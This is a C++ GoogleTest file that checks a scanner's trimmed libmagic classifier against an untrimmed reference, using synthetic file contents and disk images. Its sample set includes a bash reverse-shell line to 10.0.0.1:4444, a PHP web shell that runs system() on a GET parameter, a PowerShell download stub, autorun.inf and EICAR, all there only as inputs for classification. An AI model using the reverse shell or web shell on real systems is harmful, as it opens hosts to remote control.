// The libmagic classifier against a reference configuration (issue #12): every
// shortcut taken in magic_classifier.cpp must leave each (MIME type,
// description) pair exactly as libmagic gives it with the untrimmed flags.
//
// The reference below is spelled out with libmagic's own API and does not
// change when the classifier does. The contents are: a varied set made here
// (with, for each lever tried and rejected in issue #12, a content it would
// get wrong), every file of the fixture images, and (Corpus tests) every file
// of the shared corpus's images, read through the scanner's own libtsk layer.

#include <magic.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <ostream>
#include <random>
#include <set>
#include <span>
#include <string>
#include <vector>

#include "borderscan/scanner/error.hpp"
#include "borderscan/scanner/limits.hpp"
#include "support/test_support.hpp"
// Internal headers of the scanner library (scanner/src), which this test
// binary links statically: the classifier itself and the libtsk walker.
#include "../../scanner/src/magic_classifier.hpp"
#include "../../scanner/src/tsk_image.hpp"

namespace sc = borderscan::scanner;
namespace fs = std::filesystem;

namespace {

// What a classification gave: the pair, or that libmagic failed.
struct answer {
  bool failed = false;
  std::string mime;
  std::string description;

  bool operator==(const answer& o) const {
    return failed == o.failed && (failed || (mime == o.mime && description == o.description));
  }
};

std::ostream& operator<<(std::ostream& out, const answer& a) {
  if (a.failed) {
    return out << "libmagic failed: " << a.description;
  }
  return out << "(" << a.mime << ", " << a.description << ")";
}

// The configuration before issue #12, with no trimming: a MIME pass with
// every check but decompression, then a description pass with the same
// checks, or, for text/plain, the checks without soft magic. Parameters as
// the classifier always had them (ENCODING_MAX and REGEX_MAX 4096).
class reference_magic {
 public:
  reference_magic()
      : mime_(open(MAGIC_MIME_TYPE | MAGIC_NO_CHECK_COMPRESS)),
        description_(open(MAGIC_NONE | MAGIC_NO_CHECK_COMPRESS)),
        text_description_(open(MAGIC_NONE | MAGIC_NO_CHECK_COMPRESS | MAGIC_NO_CHECK_SOFT)) {}
  ~reference_magic() {
    magic_close(mime_);
    magic_close(description_);
    magic_close(text_description_);
  }
  reference_magic(const reference_magic&) = delete;
  reference_magic& operator=(const reference_magic&) = delete;

  answer classify(std::span<const std::byte> prefix) {
    answer a;
    const char* mime = magic_buffer(mime_, prefix.data(), prefix.size());
    if (mime == nullptr) {
      return failure(mime_);
    }
    a.mime = mime;
    magic_t second = a.mime == "text/plain" ? text_description_ : description_;
    const char* description = magic_buffer(second, prefix.data(), prefix.size());
    if (description == nullptr) {
      return failure(second);
    }
    a.description = description;
    return a;
  }

 private:
  static magic_t open(int flags) {
    magic_t cookie = magic_open(flags);
    if (cookie == nullptr) {
      ADD_FAILURE() << "magic_open failed";
      return nullptr;
    }
    const std::size_t encoding_max = 4096;
    const std::size_t regex_max = 4096;
    magic_setparam(cookie, MAGIC_PARAM_ENCODING_MAX, &encoding_max);
    magic_setparam(cookie, MAGIC_PARAM_REGEX_MAX, &regex_max);
    if (magic_load(cookie, nullptr) != 0) {
      ADD_FAILURE() << "magic_load failed: " << (magic_error(cookie) ? magic_error(cookie) : "?");
    }
    return cookie;
  }
  static answer failure(magic_t cookie) {
    return {true, {}, magic_error(cookie) ? magic_error(cookie) : "unknown error"};
  }

  magic_t mime_;
  magic_t description_;
  magic_t text_description_;
};

answer classify_trimmed(sc::detail::magic_classifier& magic, std::span<const std::byte> prefix) {
  try {
    const auto r = magic.classify(prefix);
    return {false, r.mime, r.description};
  } catch (const sc::scan_error& e) {
    return {true, {}, e.what()};
  }
}

// Compares both on one content, cut to the prefix the scanner hands libmagic.
class comparer {
 public:
  void check(const std::string& what, std::span<const std::byte> content) {
    const auto prefix = content.first(std::min<std::size_t>(content.size(), sc::limits{}.magic_bytes));
    const answer want = reference_.classify(prefix);
    const answer got = classify_trimmed(trimmed_, prefix);
    EXPECT_EQ(got, want) << what << " (" << content.size() << " bytes)";
    ++compared_;
    if (!want.failed) {
      kinds_.insert(want.mime + " / " + want.description);
    }
  }
  void check(const std::string& what, const std::string& content) { check(what, std::as_bytes(std::span(content))); }

  std::size_t compared() const { return compared_; }
  std::size_t kinds() const { return kinds_.size(); }
  // Shown in --gtest_output=xml: how much each test compared.
  void record() const {
    ::testing::Test::RecordProperty("compared", static_cast<int>(compared_));
    ::testing::Test::RecordProperty("distinct_answers", static_cast<int>(kinds_.size()));
  }

 private:
  reference_magic reference_;
  sc::detail::magic_classifier trimmed_;
  std::size_t compared_ = 0;
  std::set<std::string> kinds_;
};

std::string repeat(const std::string& s, std::size_t n) {
  std::string out;
  for (std::size_t i = 0; i < n; ++i) {
    out += s;
  }
  return out;
}

std::string be16(unsigned v) {
  return {static_cast<char>((v >> 8) & 0xff), static_cast<char>(v & 0xff)};
}

std::string le16(unsigned v) {
  return {static_cast<char>(v & 0xff), static_cast<char>((v >> 8) & 0xff)};
}

std::string le32(std::uint32_t v) {
  return le16(v & 0xffff) + le16(v >> 16);
}

std::string seeded_bytes(std::size_t n, unsigned seed) {
  std::mt19937 gen(seed);
  std::string out(n, '\0');
  for (auto& c : out) {
    c = static_cast<char>(gen() & 0xff);
  }
  return out;
}

// A tar header block with a valid checksum; `ustar` adds the POSIX magic
// (without it, only libmagic's built-in tar check knows the format).
std::string tar_archive(const std::string& name, const std::string& data, bool ustar) {
  std::string h(512, '\0');
  auto put = [&](std::size_t at, const std::string& s) { h.replace(at, s.size(), s); };
  put(0, name);
  put(100, std::string("0000644") + '\0');
  put(108, std::string("0001750") + '\0');
  put(116, std::string("0001750") + '\0');
  char size[13];
  std::snprintf(size, sizeof size, "%011o", static_cast<unsigned>(data.size()));
  put(124, size);
  put(136, "14567412345");
  put(148, "        ");
  put(156, "0");
  if (ustar) {
    put(257, std::string("ustar") + '\0' + "00");
    put(265, "user");
    put(297, "group");
  }
  unsigned sum = 0;
  for (const char c : h) {
    sum += static_cast<unsigned char>(c);
  }
  char check[8];
  std::snprintf(check, sizeof check, "%06o", sum);
  put(148, std::string(check, 6) + '\0' + ' ');
  return h + data + std::string((512 - data.size() % 512) % 512, '\0') + std::string(1024, '\0');
}

// One stored member, with its central directory.
std::string zip_archive(const std::string& name, const std::string& data) {
  const std::string crc = le32(0x2c0ff5ad);  // not checked by libmagic
  const std::string sizes = crc + le32(static_cast<std::uint32_t>(data.size())) +
                            le32(static_cast<std::uint32_t>(data.size())) + le16(static_cast<unsigned>(name.size()));
  const std::string local =
      "PK\x03\x04" + le16(20) + le16(0) + le16(0) + le16(0) + le16(0) + sizes + le16(0) + name + data;
  const std::string central = "PK\x01\x02" + le16(20) + le16(20) + le16(0) + le16(0) + le16(0) + le16(0) + sizes +
                              le16(0) + le16(0) + le16(0) + le16(0) + le32(0) + le32(0) + name;
  return local + central + "PK\x05\x06" + le16(0) + le16(0) + le16(1) + le16(1) +
         le32(static_cast<std::uint32_t>(central.size())) + le32(static_cast<std::uint32_t>(local.size())) + le16(0);
}

// A 32-bit Windows GUI executable's headers.
std::string pe_executable() {
  std::string mz = "MZ" + std::string(0x80 - 2, '\0');
  mz.replace(0x18, 2, le16(0x40));
  mz.replace(0x3c, 4, le32(0x80));
  std::string optional(0xe0, '\0');
  optional.replace(0, 2, le16(0x10b));
  optional.replace(68, 2, le16(2));  // subsystem: GUI
  return mz + std::string("PE\0\0", 4) + le16(0x14c) + le16(1) + le32(0) + le32(0) + le32(0) + le16(0xe0) +
         le16(0x0102) + optional + std::string(512, '\0');
}

// A JPEG whose description walks many segments: libmagic describes it with
// recursive named tests, which MAGIC_PARAM_NAME_MAX bounds.
std::string jpeg_with_segments(int segments) {
  std::string j = "\xff\xd8\xff\xe0" + be16(16) + std::string("JFIF\0\x01\x01\0\0\x01\0\x01\0\0", 14);
  for (int i = 0; i < segments; ++i) {
    j += "\xff\xe1" + be16(10) + "segment!";
  }
  j += "\xff\xc0" + be16(17) + std::string("\x08", 1) + be16(480) + be16(640) +
       std::string("\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01", 10) + "\xff\xd9";
  return j;
}

// The header of a Compound Document File (MS Office 97) whose sector tables
// lie past the end: libmagic's CDF check answers differently in its MIME and
// description modes for such files.
std::string cdf_header_only() {
  std::string h(512, '\0');
  auto put = [&](std::size_t at, const std::string& s) { h.replace(at, s.size(), s); };
  put(0, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1");
  put(24, le16(0x3e) + le16(3) + le16(0xfffe) + le16(9) + le16(6));
  put(44, le32(1) + le32(1));
  put(56, le32(4096) + le32(0xfffffffe));
  put(68, le32(0xfffffffe));
  for (int i = 0; i < 109; ++i) {
    put(76 + 4 * i, le32(0xffffffff));
  }
  put(76, le32(500));
  return h + std::string(1024, '\0');
}

std::vector<std::pair<std::string, std::string>> made_contents() {
  const std::string words = "border checkpoint declaration cargo manifest vessel customs ";
  const std::string nul(1, '\0');
  std::vector<std::pair<std::string, std::string>> c;
  c.emplace_back("empty", "");
  c.emplace_back("one byte", "x");
  c.emplace_back("two bytes", "ab");
  c.emplace_back("ASCII text", repeat(words + "\n", 40));
  c.emplace_back("ASCII text, no line terminator", repeat(words, 3));
  c.emplace_back("ASCII text, CRLF", repeat(words + "\r\n", 40));
  c.emplace_back("ASCII text, CR", repeat(words + "\r", 40));
  c.emplace_back("ASCII text, very long lines", repeat(words, 200) + "\n");
  c.emplace_back("ASCII text, escape sequences", repeat("\x1b[1mbold\x1b[0m " + words + "\n", 20));
  c.emplace_back("ASCII text, overstriking", repeat("b\bbo\bol\bld\bd " + words + "\n", 20));
  c.emplace_back("ASCII text, trailing NULs", repeat(words + "\n", 10) + std::string(64, '\0'));
  c.emplace_back("UTF-8 text", repeat("Zollerklärung für Ладога und café " + words + "\n", 30));
  c.emplace_back("UTF-8 text with BOM", "\xef\xbb\xbf" + repeat("grüße " + words + "\n", 30));
  c.emplace_back("ISO-8859 text", repeat("caf\xe9 na\xefve d\xe9"
                                         "claration " +
                                             words + "\n",
                                         30));
  std::string utf16le = "\xff\xfe", utf16be = "\xfe\xff";
  for (const char ch : repeat(words + "\n", 20)) {
    utf16le += std::string(1, ch) + nul;
    utf16be += nul + std::string(1, ch);
  }
  c.emplace_back("UTF-16LE text", utf16le);
  c.emplace_back("UTF-16BE text", utf16be);
  c.emplace_back("EBCDIC-looking bytes", repeat("\xc8\x85\x93\x93\x96\x40\xe6\x96\x99\x93\x84\x25", 50));
  // A lower MAGIC_PARAM_ENCODING_MAX would call these ASCII (the first
  // non-ASCII byte comes late) and miss the #include.
  c.emplace_back("UTF-8 text, first non-ASCII byte after 2 KiB",
                 repeat("plain words and more words\n", 80) + "café au lait\n");
  // A lower MAGIC_PARAM_REGEX_MAX would miss the late #include (the C
  // entries check it with an unbounded regular expression).
  c.emplace_back("C source, #include after 1.6 KiB",
                 repeat("/* licence text: line after line of it */\n", 40) +
                     "#include <stdio.h>\n#include <stdlib.h>\n\nint answer(void) {\n  return 42;\n}\n");
  c.emplace_back("C source", "#include <stdio.h>\n\nint main(void) {\n  printf(\"hi\\n\");\n  return 0;\n}\n");
  c.emplace_back("C++ source", "#include <vector>\nclass box {\n public:\n  int v;\n};\nnamespace x {}\n");
  c.emplace_back("shell script", "#!/bin/sh\nset -e\nfor f in *; do\n  echo \"$f\"\ndone\n");
  c.emplace_back("bash script", "#!/usr/bin/env bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
  c.emplace_back("Python script", "#!/usr/bin/env python3\nimport os\n\ndef main():\n    print(os.getcwd())\n");
  c.emplace_back("Perl script", "#!/usr/bin/perl\nuse strict;\nprint \"hello\\n\";\n");
  c.emplace_back("PHP script", "<?php\n$cmd = $_GET['c'];\nsystem($cmd);\n?>\n");
  c.emplace_back("PowerShell", "$a = New-Object System.Net.WebClient\n$a.DownloadFile('x', 'y')\n");
  c.emplace_back("HTML document",
                 "<!DOCTYPE html>\n<html><head><title>t</title></head><body>" + words + "</body></html>\n");
  c.emplace_back("XML document", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<root><item>1</item></root>\n");
  c.emplace_back("SVG image", "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\"/>\n");
  c.emplace_back("Windows INF", "[autorun]\nopen=setup.exe\nicon=setup.exe,0\n");
  // Text whose type comes from soft magic run on text, with a MIME type
  // outside text/: skipping the text check for non-text answers breaks them.
  c.emplace_back("e-mail",
                 "Delivered-To: inspector@example.org\nFrom: a@example.org\nSubject: cargo\n\n" + words + "\n");
  c.emplace_back("PBM image, ASCII", "P1\n# made by hand\n4 2\n0 1 0 1\n1 0 1 0\n");
  c.emplace_back("KDE desktop entry", "[KDE Desktop Entry]\nName=Inspect\nExec=inspect\n");
  c.emplace_back("JSON", "{\"name\": \"border\", \"items\": [1, 2, 3], \"ok\": true}\n");
  c.emplace_back("JSON array", "[{\"a\": 1}, {\"a\": 2}]");
  c.emplace_back("NDJSON", "{\"a\": 1}\n{\"a\": 2}\n{\"a\": 3}\n");
  c.emplace_back("not quite JSON", "{\"name\": \"border\", \"items\": [1, 2, 3\n");
  c.emplace_back("CSV", "name,country,value\nalpha,FR,1\nbeta,DE,2\ngamma,IT,3\n");
  c.emplace_back("CSV, quoted", "\"a\",\"b, c\",\"d\"\n\"1\",\"2\",\"3\"\n\"4\",\"5\",\"6\"\n\"7\",\"8\",\"9\"\n");
  c.emplace_back("tar (ustar)", tar_archive("notes.txt", "hello tar\n", true));
  // Without the ustar magic only the built-in tar check (MAGIC_NO_CHECK_TAR)
  // recognises it.
  c.emplace_back("tar (v7)", tar_archive("notes.txt", "hello tar\n", false));
  c.emplace_back("gzip", std::string("\x1f\x8b\x08\x08\0\0\0\0\0\x03notes.txt\0", 20) + seeded_bytes(200, 1));
  c.emplace_back("zip", zip_archive("a.txt", "hello zip\n"));
  c.emplace_back("PDF", "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
  c.emplace_back("PNG", "\x89PNG\r\n\x1a\n" + std::string("\0\0\0\x0dIHDR\0\0\x01\0\0\0\0\x80\x08\x02\0\0\0", 21) +
                            seeded_bytes(64, 3));
  c.emplace_back("JPEG", jpeg_with_segments(1));
  // A lower MAGIC_PARAM_NAME_MAX makes libmagic fail on this one.
  c.emplace_back("JPEG, 30 segments", jpeg_with_segments(30));
  c.emplace_back("GIF", "GIF89a" + le16(320) + le16(200) + std::string("\xf7\0\0", 3) + seeded_bytes(64, 4));
  std::string elf =
      "\x7f"
      "ELF\x02\x01\x01" +
      std::string(9, '\0') + le16(3) + le16(0x3e) + le32(1);
  elf += std::string(64 - elf.size(), '\0') + seeded_bytes(4096, 5);
  c.emplace_back("ELF", elf);
  c.emplace_back("PE", pe_executable());
  c.emplace_back("CDF header only", cdf_header_only());
  c.emplace_back("SQLite", std::string("SQLite format 3\0", 16) + be16(4096) + seeded_bytes(200, 7));
  c.emplace_back("LNK",
                 le32(0x4c) + std::string("\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 16) + std::string(56, '\0'));
  c.emplace_back("EICAR", borderscan::test::eicar());
  // ISO 9660 says so at offset 32769: a shorter prefix would lose it.
  std::string iso(40000, '\0');
  iso.replace(32768, 7,
              std::string("\x01"
                          "CD001\x01",
                          7));
  c.emplace_back("ISO 9660, volume descriptor at 32 KiB", iso);
  c.emplace_back("random bytes", seeded_bytes(65536, 8));
  c.emplace_back("random bytes, more than the prefix", seeded_bytes(100000, 9));
  c.emplace_back("zeros", std::string(4096, '\0'));
  c.emplace_back("0xFF bytes", std::string(4096, '\xff'));
  c.emplace_back("text, then binary", repeat(words + "\n", 20) + seeded_bytes(2048, 10));
  c.emplace_back("binary, then text", seeded_bytes(2048, 11) + repeat(words + "\n", 20));
  return c;
}

// Keeps what a walk finds with content to read; the rest of its news does not
// matter here.
class item_collector final : public sc::detail::walk_sink {
 public:
  void item(sc::detail::walk_item&& item) override {
    if (item.content) {
      items.push_back(std::move(item));
    }
  }
  void error(sc::error_entry&& /*e*/) override {}
  void warning(std::string&& /*w*/) override {}
  void limit(sc::limit_hit&& /*l*/) override {}
  bool stop() override { return false; }

  std::vector<sc::detail::walk_item> items;
};

// Every object the scanner would classify in an image (regular files and raw
// volumes), read through the scanner's libtsk layer as the engine does: one
// handle walks, another reads. Returns how many were compared.
std::size_t compare_image(comparer& cmp, const fs::path& image) {
  const std::size_t before = cmp.compared();
  const sc::limits lim;
  item_collector sink;
  std::vector<sc::detail::volume_plan> volumes;
  try {
    sc::detail::tsk_image walker({image});
    volumes = walker.discover_volumes(sink);
    for (auto& v : volumes) {
      walker.walk(v, lim, sink);
    }
  } catch (const sc::scan_error&) {
    return 0;  // not an image libtsk opens (the engine reports it): nothing to classify
  }
  sc::detail::tsk_image reader({image});
  std::vector<std::byte> prefix(lim.magic_bytes);
  for (const auto& item : sink.items) {
    std::size_t got = 0;
    try {
      auto source = reader.open(volumes[item.entry.volume], *item.content);
      while (got < prefix.size()) {
        const std::size_t n = source->read_at(got, std::span(prefix).subspan(got));
        if (n == 0) {
          break;
        }
        got += n;
      }
    } catch (const sc::scan_error&) {
      // Unreadable past some point: the bytes read so far are what libmagic
      // would see.
    }
    cmp.check(image.filename().string() + ": volume " + std::to_string(item.entry.volume) + " " + item.entry.path,
              std::span<const std::byte>(prefix).first(got));
  }
  return cmp.compared() - before;
}

TEST(MagicClassifier, SameAnswersAsTheUntrimmedConfigurationOnVariedContents) {
  comparer cmp;
  for (const auto& [name, content] : made_contents()) {
    cmp.check(name, content);
  }
  cmp.record();
  // The set is meant to be varied: it must reach many different answers.
  EXPECT_GE(cmp.kinds(), 45U);
}

TEST(MagicClassifier, SameAnswersAsTheUntrimmedConfigurationOnEveryFileOfTheFixtureImages) {
  comparer cmp;
  std::size_t images = 0;
  for (const auto& e : fs::directory_iterator(borderscan::test::fixture_dir())) {
    const auto ext = e.path().extension();
    if (e.is_regular_file() && (ext == ".img" || ext == ".iso" || ext == ".E01")) {
      ++images;
      compare_image(cmp, e.path());
    }
  }
  cmp.record();
  EXPECT_GE(images, 7U);
  EXPECT_GE(cmp.compared(), 20U);
}

TEST(MagicClassifierCorpus, SameAnswersAsTheUntrimmedConfigurationOnEveryFileOfTheCorpusImages) {
  BORDERSCAN_REQUIRE_CORPUS();
  borderscan::test::scratch_dir dir;
  std::vector<fs::path> images;
  for (const auto& e : fs::directory_iterator(borderscan::test::corpus_dir() / "images")) {
    const auto name = e.path().filename().string();
    if (!e.is_regular_file() || name.ends_with(".json") || name.ends_with(".md")) {
      continue;
    }
    images.push_back(name.ends_with(".gz") ? borderscan::test::gunzip_to(e.path(), dir.path()) : e.path());
  }
  for (const auto& image : borderscan::test::hostile_images(dir.path())) {
    images.push_back(image);
  }
  std::sort(images.begin(), images.end());
  comparer cmp;
  std::size_t images_with_files = 0;
  for (const auto& image : images) {
    if (compare_image(cmp, image) > 0) {
      ++images_with_files;
    }
  }
  cmp.record();
  ::testing::Test::RecordProperty("images_with_files", static_cast<int>(images_with_files));
  EXPECT_GE(images_with_files, 15U);
  EXPECT_GE(cmp.compared(), 150U);
}

}  // namespace
